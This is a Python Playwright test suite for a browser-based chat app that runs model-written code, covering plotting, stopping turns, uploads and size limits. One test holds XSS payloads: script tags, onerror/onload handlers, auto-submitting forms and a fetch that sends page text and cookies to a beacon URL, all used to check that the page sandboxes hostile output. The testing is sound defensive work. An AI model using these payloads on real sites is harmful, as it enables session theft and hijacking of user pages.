"""The web chat in a real browser: the whole conversation, and what hostile output tries against the page."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.doubles.model_server import ModelServer, model_server, python
from tests.e2e.browsing import begin, picture, send, sound_page
from tests.e2e.threadbox import Process, remove_containers, threadbox

pytestmark = [pytest.mark.docker, pytest.mark.browser, pytest.mark.usefixtures("image")]

PLOT = """import numpy as np
import matplotlib.pyplot as plt

x = np.linspace(0, 2 * np.pi, 200)
print("points:", len(x))
plt.figure(figsize=(7, 3))
plt.plot(x, np.sin(x))
plt.title("A sine wave")
plt.grid(alpha=0.3)
plt.show()"""


@pytest.fixture(scope="module")
def model() -> Iterator[ModelServer]:
    with model_server() as server:
        yield server


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory, model: ModelServer) -> Iterator[Process]:
    settings = {"OPENAI_BASE_URL": model.url, "THREADBOX_MODEL": "scripted", "THREADBOX_UPLOAD_MIB": "2"}
    folder = tmp_path_factory.mktemp("web")
    with threadbox(folder, **settings) as running:
        yield running
    remove_containers(folder)


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with sound_page(browser) as page:
        yield page


def test_the_whole_conversation(page: Page, browser: Browser, chat: Process, model: ModelServer) -> None:
    model.script[:] = [
        python(PLOT, "I'll draw it with numpy and matplotlib."),
        "One period of **sin(x)**, drawn with 200 points.",
        python("print('still here:', len(x))"),
        "The 200 points of the first message.",
        python("print('round and round')\nwhile True: pass"),
        python("print('after the stop:', len(x))"),
        "Ready.",
    ]
    begin(page, chat, "@threadbox plot a sine wave")
    expect(page.locator(".status.done")).to_have_count(1, timeout=20_000)
    image = page.locator(".picture img")
    expect(image).to_be_visible()
    page.wait_for_function("() => document.querySelector('.picture img')?.naturalWidth > 300")
    expect(page.locator(".printed").first).to_have_text("points: 200")
    expect(page.locator(".text strong")).to_have_text("sin(x)")
    expect(page.locator("#stop")).to_be_hidden()
    picture(page, "desktop")

    send(page, "how many points are there?")
    expect(page.locator(".printed").nth(1)).to_have_text("still here: 200", timeout=20_000)
    expect(page.locator(".status.done")).to_have_count(2)

    second = browser.new_page()
    second.goto(page.url)
    send(page, "go on for ever")
    for tab in (page, second):
        expect(tab.locator(".live .printed")).to_have_text("round and round", timeout=20_000)
    picture(page, "working")
    second.locator("#stop").click()
    for tab in (page, second):
        expect(tab.locator(".status.stopped")).to_have_count(1, timeout=5000)  # how fast it is, make bench says
    picture(page, "stopped")
    second.close()

    send(page, "and now?")
    expect(page.locator(".printed").nth(3)).to_have_text("after the stop: 200", timeout=20_000)
    expect(page.locator(".status.done")).to_have_count(3)
    before = page.locator("#entries").inner_text()
    page.reload()
    expect(page.locator(".status.done")).to_have_count(3)
    assert page.locator("#entries").inner_text() == before

    phone = browser.new_page(viewport={"width": 390, "height": 844}, color_scheme="dark")
    phone.goto(page.url)
    expect(phone.locator(".status.done")).to_have_count(3)
    assert phone.evaluate("document.documentElement.scrollWidth") <= 390
    picture(phone, "phone")
    phone.close()


HOSTILE = r"""
import os
press = "document.getElementById('stop').click()"
svg = '''<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1);parent.PRESS"><script>
  alert(2); fetch('STOP', {method: 'POST'}); parent.document.title = 'owned'; top.location = 'about:blank';
</script><rect width="50" height="50" fill="red"/></svg>'''
html = '''<h1>hi</h1><img src=x onerror="alert(3)"><form action="STOP" method="post" target="_top"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=BEACON"><script>parent.PRESS; document.forms[0].submit();
fetch('BEACON' + parent.document.body.innerText); document.title = document.cookie; alert(4)</script>'''
for name, text in {'evil.svg': svg, 'evil.html': html}.items():
    open(name, 'w').write(text.replace('PRESS', press))
open(f'<img src=x onerror={press}>.txt', 'w').write('x')
open('really.png', 'w').write('<script>alert(6)</script>')
print(f'<script>alert(7);{press}</script>\x1b]0;x\x07</samp><img src=x onerror={press}><i hx-post="STOP" hx-trigger="load">')
"""
EVIL = (
    "<script>alert(9)</script> <img src=x onerror=document.getElementById('stop').click()> "
    "[a](javascript:document.getElementById('stop').click()) ![b](BEACON) <iframe src=/c/general></iframe> "
    '<i hx-post="STOP" hx-trigger="load">go</i> <form action="STOP" method="post"></form>'
)


def test_hostile_output_cannot_read_the_page_or_press_its_buttons(
    page: Page, chat: Process, model: ModelServer
) -> None:
    """While a turn runs, which the Stop button of the page would stop."""
    model.script[:] = ["At your service."]
    begin(page, chat, "@threadbox attack")
    expect(page.locator(".status.done")).to_have_count(1, timeout=20_000)
    there = {"STOP": f"{page.url}/stop", "BEACON": f"{model.url}/models?stolen="}
    hostile, evil = (re.sub("STOP|BEACON", lambda found: there[found[0]], text) for text in (HOSTILE, EVIL))
    model.script[:] = [python(hostile, evil), python("print('round and round')\nwhile True: pass", evil)]
    asked: list[str] = []
    page.on("response", lambda response: asked.append(f"{response.request.method} {response.url}"))
    send(page, "go")
    expect(page.locator(".live .printed", has_text="round and round")).to_be_visible(timeout=20_000)
    frames = page.locator("iframe.sealed")
    expect(frames).to_have_count(2)
    for index in range(2):
        frames.nth(index).scroll_into_view_if_needed()
    frames.first.content_frame.get_by_role("button", name="go").click()
    page.wait_for_timeout(1000)

    picture(page, "attacked")
    expect(page.locator("#stop")).to_be_visible()
    expect(page.locator(".status.working")).to_have_count(1)
    assert page.title() == "attack · Threadbox"
    assert [line for line in asked if not line.startswith("GET")] == [f"POST {page.url}/messages"]
    assert sum(line.endswith("/sealed") for line in asked) == 2
    assert not any("stolen" in line or line.endswith("/x") for line in asked)
    for index in range(2):
        assert frames.nth(index).get_attribute("sandbox") == ""
    answer = page.request.get(chat.url + str(frames.first.get_attribute("src")))
    assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    expect(page.locator(".printed", has_text="<script>alert(7)")).to_be_visible()
    named = page.locator(".file a", has_text=".txt")
    with page.expect_download() as download:
        named.click()
    assert "<" not in download.value.suggested_filename
    assert page.locator("article script, article img[src='x'], article [hx-trigger]").count() == 0

    page.locator("#stop").click()  # the button that they were after does stop it
    expect(page.locator(".status.stopped")).to_have_count(1, timeout=5000)


def test_another_site_cannot_post_to_the_chat(page: Page, chat: Process) -> None:
    page.goto(f"{chat.url}/c/general")
    page.goto("data:text/html,<form method=post></form>")
    page.evaluate("address => { document.forms[0].action = address }", f"{chat.url}/c/general/messages")

    with page.expect_response(f"{chat.url}/c/general/messages") as response:
        page.evaluate("document.forms[0].submit()")

    assert response.value.status == 403


def test_a_message_for_nobody_is_kept_with_a_hint(page: Page, chat: Process) -> None:
    begin(page, chat, "just talking")

    expect(page.locator(".hint")).to_have_text("mention @threadbox to ask it")
    expect(page.locator(".reply")).to_have_count(0)


def test_files_go_up_and_are_read(page: Page, chat: Process, model: ModelServer) -> None:
    model.script[:] = [python("print(open('numbers.csv').read())"), "Read."]
    page.goto(f"{chat.url}/c/direct")
    page.wait_for_load_state("networkidle")
    page.locator("input[type=file]").set_input_files(
        {"name": "numbers.csv", "mimeType": "text/csv", "buffer": b"7,8,9"}
    )
    expect(page.locator("#chosen")).to_have_text("numbers.csv")
    send(page, "read it")

    expect(page.locator(".printed")).to_have_text("7,8,9", timeout=20_000)


@pytest.mark.parametrize(
    ("text", "size", "words"),
    [
        ("@threadbox", 0, "Your message is empty"),
        ("x" * 40_000, 0, "40,000 characters; I take 32,000"),
        ("big", 3 << 20, "big.bin has 3.1 MB; I take 2.1 MB a file."),
        ("huge", 30 << 20, "a file may have 2 MB"),
    ],
)
def test_what_is_too_much_is_refused_in_words_and_not_lost(
    page: Page, chat: Process, tmp_path: Path, text: str, size: int, words: str
) -> None:
    page.goto(f"{chat.url}/c/direct")
    page.wait_for_load_state("networkidle")
    if size:
        (tmp_path / "big.bin").write_bytes(b"x" * size)
        page.locator("input[type=file]").set_input_files(tmp_path / "big.bin")
    send(page, text)

    expect(page.locator("#refusal")).to_contain_text(words, timeout=15_000)
    assert page.locator("textarea").input_value() == text


def test_a_failed_turn_has_a_retry_that_works(page: Page, chat: Process, model: ModelServer) -> None:
    from tests.doubles.model_server import Fault

    model.script[:] = [Fault(401), "Now it works."]
    begin(page, chat, "@threadbox hello")
    expect(page.locator(".notice.error")).to_contain_text("did not accept the key", timeout=20_000)
    picture(page, "failed")

    page.get_by_role("button", name="Retry").click()

    expect(page.get_by_text("Now it works.")).to_be_visible(timeout=20_000)
    expect(page.locator(".status.done")).to_have_count(1)


def test_a_prompt_of_ten_megabytes_is_refused_with_the_limit(chat: Process) -> None:
    answer = chat.post("/c/direct/messages", text="x" * 10_000_000)

    assert "10,000,000 characters; I take 32,000" in answer.text
